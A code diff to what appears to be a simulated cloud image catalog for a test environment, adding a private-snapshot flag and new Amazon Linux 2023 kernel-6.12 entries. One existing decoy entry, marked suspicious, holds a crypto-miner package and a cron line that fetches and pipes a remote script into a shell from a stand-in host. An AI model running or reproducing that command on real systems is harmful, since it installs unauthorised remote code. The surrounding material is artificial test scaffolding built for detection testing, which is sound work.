@@ -30,6 +30,8 @@ export type PublicImageSpec = {
 	softwarePricePerHour?: number;
 	licencePricePerHour?: number;
 	suspicious?: boolean;
+	/** the snapshot is not shared with everyone (its AMI can be launched, not copied, by others) */
+	privateSnapshot?: boolean;
 	disk: Disk;
 };
 
@@ -182,6 +184,7 @@ export const PUBLIC_IMAGES: PublicImageSpec[] = [
 		rootSize: 8,
 		ageDays: 3,
 		suspicious: true,
+		privateSnapshot: true,
 		disk: linuxDisk('Amazon Linux 2023', ['dnf', 'xmr-miner'], {'xmr-miner': {enabled: true, active: true}}, {'/etc/cron.d/update': '* * * * * root curl -s http://203.0.113.66/p.sh | sh\n'}),
 	},
 ];
@@ -204,6 +207,14 @@ const amazonLinux = (key: string, Name: string, Description: string, arch: 'x86_
 	disk: linuxDisk('Amazon Linux 2023', ['dnf']),
 	...extra,
 });
+
+/**
+ * Amazon Linux 2023 publishes each release once per supported kernel (kernel-6.1, kernel-6.12),
+ * on the same day; from June 2026 the default kernel, the one al2023-ami-kernel-default-* names,
+ * moves to the newest long-term one every year (Amazon Linux 2023 User Guide, "The Amazon Linux
+ * kernel"). In this world's September 2026 that is 6.12.
+ */
+export const AL2023_DEFAULT_KERNEL = '6.12';
 
 const AL2_RELEASE = '2.0.20260818.0';
 for (const arch of ['x86_64', 'arm64'] as const) {
@@ -232,5 +243,14 @@ for (const arch of ['x86_64', 'arm64'] as const) {
 			ageDays: 14,
 			disk: linuxDisk('Amazon Linux 2', ['yum']),
 		}),
+	);
+}
+
+// The kernel-6.12 images of the newest Amazon Linux 2023 release (appended last, as above).
+for (const arch of ['x86_64', 'arm64'] as const) {
+	const bootMode = arch === 'arm64' ? 'uefi' : 'uefi-preferred';
+	PUBLIC_IMAGES.push(
+		amazonLinux(`al2023-6.12-${arch}`, `al2023-ami-2023.9.20260825.0-kernel-6.12-${arch}`, `Amazon Linux 2023 AMI 2023.9.20260825.0 ${arch} HVM kernel-6.12`, arch, {BootMode: bootMode, ImdsSupport: 'v2.0'}),
+		amazonLinux(`al2023-minimal-6.12-${arch}`, `al2023-ami-minimal-2023.9.20260825.0-kernel-6.12-${arch}`, `Amazon Linux 2023 AMI 2023.9.20260825.0 ${arch} Minimal HVM kernel-6.12`, arch, {rootSize: 2, BootMode: bootMode, ImdsSupport: 'v2.0'}),
 	);
 }
